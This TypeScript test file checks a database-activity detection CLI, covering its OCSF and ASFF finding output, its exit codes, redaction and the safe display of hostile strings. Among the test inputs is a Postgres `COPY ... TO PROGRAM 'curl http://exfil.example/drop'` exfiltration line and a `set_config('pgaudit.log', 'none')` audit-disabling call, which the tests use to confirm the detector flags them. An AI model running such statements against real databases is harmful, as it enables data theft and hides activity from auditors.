import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { run } from '../../src/cli/run.js';
import { ExitCode } from '../../src/errors.js';
import { postgresEvent } from '../../lab/src/synthetic-events.js';
import { activeCharacters, HOSTILE_PAYLOADS } from '../helpers/hostile.js';
import { memoryIO } from '../helpers/memory-io.js';
import { ocsfProblems } from '../helpers/ocsf-validator.js';

const RULES = fileURLToPath(new URL('../fixtures/detect/test-rules.yml', import.meta.url));
const SAVED = readFileSync(new URL('../fixtures/detect/saved-events.ndjson', import.meta.url), 'utf8');
const OWN = ['--no-builtin-rules', '--rules', RULES];
const DROP = '6d0b2f3e-1c7a-4e59-9a1f-2b3c4d5e6f70';
const BURST = '8f2d4b5a-3e9c-4a7b-9c3f-4d5e6f708192';

async function detect(args: string[], input = SAVED, options: { tty?: boolean } = {}) {
  const io = memoryIO({ input, ...(options.tty ? { tty: true } : {}) });
  if (options.tty) io.stdinIsTTY = false;
  const code = await run(['detect', ...OWN, ...args], io);
  return { code, stdout: io.stdout.text, lines: io.stdout.lines(), stderr: io.stderr.text };
}

type Ocsf = { finding_info: { uid: string; analytic: { uid: string }; related_events: Array<{ uid: string }> }; severity_id: number };
const parsed = (lines: string[]) => lines.map((line) => JSON.parse(line) as Ocsf);

describe('das-read detect over saved events', () => {
  it('writes one valid OCSF Detection Finding a line into a pipe: a single-event rule and a correlation, each with its evidence', async () => {
    const { code, lines, stderr } = await detect([]);
    expect(code, stderr).toBe(ExitCode.ok);
    const findings = parsed(lines);
    expect(findings.map((finding) => finding.finding_info.analytic.uid)).toEqual([DROP, BURST]);
    expect(lines.flatMap((line) => ocsfProblems('detection_finding', JSON.parse(line)))).toEqual([]);
    expect(findings[1]?.finding_info.related_events.map((event) => event.uid)).toEqual([
      'shardId-000000000000:10011:0',
      'shardId-000000000000:10012:0',
      'shardId-000000000000:10013:0',
    ]);
  });

  it('makes the same finding uids on a second run over the same events', async () => {
    const first = parsed((await detect([])).lines).map((finding) => finding.finding_info.uid);
    const second = parsed((await detect(['-o', 'ocsf'])).lines).map((finding) => finding.finding_info.uid);
    expect(first).toHaveLength(2);
    expect(second).toEqual(first);
    expect(new Set(first).size).toBe(2);
  });

  it('shows blocks at a terminal, and ASFF with -o asff when the database is named by ARN', async () => {
    const pretty = await detect(['--color', 'never'], SAVED, { tty: true });
    expect(pretty.stdout).toMatch(/^MEDIUM {2}A table dropped/m);
    expect(pretty.stdout).toMatch(/HIGH.*Failed logins in a burst/);
    const asff = await detect(['-o', 'asff', '--cluster', 'arn:aws:rds:eu-west-1:123456789012:cluster:prod', '-']);
    expect(asff.code, asff.stderr).toBe(ExitCode.ok);
    const first = JSON.parse(asff.lines[0] ?? '{}') as { Resources: Array<{ Id: string }>; GeneratorId: string; AwsAccountId: string };
    expect(first.GeneratorId).toBe(DROP);
    expect(first.AwsAccountId).toBe('123456789012');
    expect(first.Resources[0]?.Id).toBe('arn:aws:rds:eu-west-1:123456789012:cluster:prod');
  });

  it('refuses -o asff when the account is not known, before reading anything', async () => {
    const { code, stdout, stderr } = await detect(['-o', 'asff']);
    expect(code).toBe(ExitCode.usage);
    expect(stdout).toBe('');
    expect(stderr).toMatch(/-o asff needs the account and region/);
    // With FILE… (here -, standard input), --cluster names where the events are from: RDS is not asked.
    const named = await detect(['-o', 'asff', '--cluster', 'prod', '--account-id', '123456789012', '--region', 'eu-west-1', '-']);
    expect(named.code, named.stderr).toBe(ExitCode.ok);
    expect(named.lines[0]).toContain('arn:aws:rds:eu-west-1:123456789012:cluster:prod');
  });

  it('--fail-on: exit 5 when a finding at or above the level was made, 0 when none was', async () => {
    expect((await detect(['--fail-on', 'high'])).code).toBe(ExitCode.findings);
    expect((await detect(['--fail-on', 'MEDIUM'])).code).toBe(ExitCode.findings);
    expect((await detect(['--fail-on', 'critical'])).code).toBe(ExitCode.ok);
    const quiet = SAVED.split('\n').slice(0, 10).join('\n');
    expect((await detect(['--fail-on', 'informational'], quiet)).code).toBe(ExitCode.ok);
    expect((await detect(['--fail-on', 'severe'])).code).toBe(ExitCode.usage);
  });

  it('--fail-on: a line that could not be read outranks the findings (exit 3), and is named by its place', async () => {
    const { code, lines, stderr } = await detect(['--fail-on', 'low'], `${SAVED}\n{"not an event"\n`);
    expect(code).toBe(ExitCode.unreadableRecord);
    expect(stderr).toMatch(/standard input:17/);
    expect(stderr).toContain('1 line could not be read, and was not evaluated; exit 3');
    expect(lines).toHaveLength(2);
  });

  it('--summary counts the findings by rule and level on stderr, never on stdout', async () => {
    const { lines, stderr } = await detect(['--summary']);
    expect(lines).toHaveLength(2);
    expect(stderr).toMatch(/Findings: 2 \(15 events evaluated by 3 rules\)/);
    expect(stderr).toMatch(/high\s+1\s+Failed logins in a burst/);
    expect(stderr).toMatch(/critical 0, high 1, medium 1, low 0, informational 0/);
  });

  it('refuses the flags of a stream read with saved files', async () => {
    const { code, stderr } = await detect(['--checkpoint', '/tmp/x.json', '-']);
    expect(code).toBe(ExitCode.usage);
    expect(stderr).toMatch(/--checkpoint goes with reading a stream/);
  });

  it('a rule file that cannot be loaded stops the run before a line is read', async () => {
    const io = memoryIO({ input: SAVED });
    const code = await run(['detect', '--no-builtin-rules', '--rules', '/nonexistent/rules.yml'], io);
    expect(code).not.toBe(ExitCode.ok);
    expect(io.stdout.text).toBe('');
  });

  for (const [name, payload] of HOSTILE_PAYLOADS) {
    it(`at a terminal, ${name} in the SQL, user and application name is shown inert`, async () => {
      const line = JSON.stringify({
        ...postgresEvent(1, { commandText: `DROP TABLE x ${payload}`, dbUserName: payload, clientApplication: payload, remoteHost: payload }),
        clusterId: payload,
        instanceId: 'db-B',
        eventId: payload,
      });
      const { code, stdout } = await detect(['--color', 'always'], `${line}\n`, { tty: true });
      expect(code).toBe(ExitCode.ok);
      expect(stdout).toContain('A table dropped');
      expect(activeCharacters(stdout)).toEqual([]);
    });
  }
});

describe('das-read rules', () => {
  it('lists the rules loaded, with id, level, title, engines and ATT&CK tags, and as JSON', async () => {
    const io = memoryIO();
    expect(await run(['rules', ...OWN], io)).toBe(ExitCode.ok);
    expect(io.stdout.text).toMatch(/^LEVEL +ID +TITLE +ENGINES +ATT&CK$/m);
    expect(io.stdout.text).toMatch(
      new RegExp(`^high +${BURST} +Failed logins in a burst \\(test rule\\) \\(correlation\\) +all +attack.credential_access attack.t1110$`, 'm'),
    );
    const json = memoryIO();
    expect(await run(['rules', ...OWN, '-o', 'json'], json)).toBe(ExitCode.ok);
    const rules = JSON.parse(json.stdout.text) as Array<{ id: string; level: string; tags: string[]; engines: string[] }>;
    expect(rules.map((rule) => rule.id)).toEqual([DROP, '7e1c3a4f-2d8b-4f6a-8b2e-3c4d5e6f7081', BURST]);
    expect(rules[0]).toMatchObject({ level: 'medium', tags: ['attack.impact', 'attack.t1485'], engines: [] });
  });
});

describe('detect -o asff names its place only by a real region', () => {
  it("refuses a --region that is no region's name, and an ARN's, with exit 2 and no finding", async () => {
    for (const args of [
      ['--account-id', '123456789012', '--region', 'us-east-1:x/../'],
      ['--cluster', 'arn:aws:rds:us-east-1x/..:123456789012:cluster:prod'],
    ]) {
      const { code, stdout, stderr } = await detect(['-o', 'asff', ...args, '-']);
      expect(code, stderr).toBe(ExitCode.usage);
      expect(stderr).toMatch(/region/);
      expect(stdout).not.toContain('ProductArn');
    }
  });
});

describe('detect --redact', () => {
  const SECRET = 'hunter2-secret';
  const line = JSON.stringify({
    ...postgresEvent(1, { commandText: `DROP TABLE x; SELECT '${SECRET}'`, paramList: [SECRET] }),
    clusterId: 'cluster-A',
    instanceId: 'db-B',
    eventId: 's:1:1',
  });
  for (const output of ['pretty', 'ocsf', 'asff']) {
    it(`keeps the statement's values out of the findings, -o ${output}`, async () => {
      const place = output === 'asff' ? ['--account-id', '123456789012', '--region', 'eu-west-1'] : [];
      const { code, stdout, stderr } = await detect(['--redact', '-o', output, ...place], `${line}\n`);
      expect(code, stderr).toBe(ExitCode.ok);
      expect(stdout).toContain('A table dropped');
      expect(stdout).not.toContain(SECRET);
      expect(stdout).toContain('SELECT ?');
    });
  }
});

describe('detect --redact with the built-in rules: the rules see the SQL as sent', () => {
  // Each attack lives in a literal, which --redact takes out of what is shown, never out of what the rules see.
  const attacks = [
    { title: /[Pp]rogram/, text: `COPY t TO PROGRAM 'curl http://exfil.example/drop'`, literal: 'exfil.example' },
    { title: /audit/i, text: `SELECT set_config('pgaudit.log', 'none', false)`, literal: 'pgaudit.log' },
  ];
  for (const attack of attacks) {
    const line = JSON.stringify({
      ...postgresEvent(1, { command: 'SELECT', commandText: attack.text, paramList: [] }),
      clusterId: 'cluster-A',
      instanceId: 'db-B',
      eventId: 's:1:1',
    });
    for (const output of ['pretty', 'ocsf', 'asff']) {
      it(`finds ${JSON.stringify(attack.text)} and shows none of its literals, -o ${output}`, async () => {
        const place = output === 'asff' ? ['--account-id', '123456789012', '--region', 'eu-west-1'] : [];
        const io = memoryIO({ input: `${line}\n` });
        const code = await run(['detect', '--redact', '-o', output, ...place, '-'], io);
        expect(code, io.stderr.text).toBe(ExitCode.ok);
        expect(io.stdout.text).toMatch(attack.title);
        expect(io.stdout.text).not.toContain(attack.literal);
        expect(io.stdout.text).not.toContain('none');
      });
    }
  }
});

describe('detect says what the correlations could not do', () => {
  it('warns of events a correlation rule could not place in time', async () => {
    const line = JSON.stringify({
      ...postgresEvent(1, { command: 'AUTH FAILURE', commandText: null, logTime: null, startTime: null, dbUserName: 'mallory' }),
      clusterId: 'cluster-A',
      instanceId: 'db-B',
      eventId: 's:1:1',
    });
    const { code, stderr } = await detect([], `${line}\n`);
    expect(code).toBe(ExitCode.ok);
    expect(stderr).toMatch(/1 event had neither logTime nor startTime: correlation rules could not place it/);
  });
});

describe('das-read rules, with rule files someone else wrote', () => {
  it('shows a hostile title, id, engine or tag as data', async () => {
    const { rulesTable } = await import('../../src/commands/detect/rules-action.js');
    const { makeChalk } = await import('../../src/terminal/color.js');
    for (const [, payload] of HOSTILE_PAYLOADS) {
      const table = rulesTable(
        [
          {
            id: payload,
            title: payload,
            level: 'high',
            description: payload,
            tags: [`attack.${payload}`],
            engines: [payload],
            source: payload,
            correlation: false,
            reports: true,
          },
        ],
        makeChalk(1),
      );
      expect(activeCharacters(table)).toEqual([]);
      expect(table.split('\n')).toHaveLength(3);
    }
  });
});
